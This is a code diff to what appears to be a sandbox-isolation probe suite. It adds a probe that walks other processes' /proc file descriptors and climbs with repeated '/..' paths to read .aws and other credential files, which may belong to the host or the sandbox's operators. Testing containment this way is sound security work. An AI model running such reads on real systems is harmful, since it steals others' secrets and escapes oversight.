@@ -30,6 +30,9 @@ KEYCTL_SEARCH, SESSION_KEYRING = 10, -3
 """linux/keyctl.h"""
 NEWUSER = 0x1000_0000
 
+UP = tuple("/.." * depth for depth in range(6))
+"""From a directory to what may be the host's root."""
+
 
 class FoundNothingError(Exception):
     """There was nothing to take."""
@@ -112,6 +115,20 @@ def secrets_by_open_descriptors(setting: dict[str, Any]) -> object:
             os.close(directory)
             got += [n for n in os.listdir(int(descriptor)) if n in (".ssh", "credentials")]
     return _taken(got)
+
+
+@probe
+def secrets_by_descriptors_of_others(setting: dict[str, Any]) -> object:
+    """What other processes have open, the makers of the box included, and what is above it."""
+    home = setting["home"]
+    held = [f"/proc/{pid}/fd" for pid in os.listdir("/proc") if pid.isdigit()]
+    paths: list[str] = []
+    for directory in held:
+        with contextlib.suppress(OSError):
+            for descriptor in os.listdir(directory):
+                way = f"{directory}/{descriptor}"
+                paths += [f"{way}/credentials", *(f"{way}{up}{home}/.aws/credentials" for up in UP)]
+    return _read_all(paths, setting["marker"])
 
 
 @probe
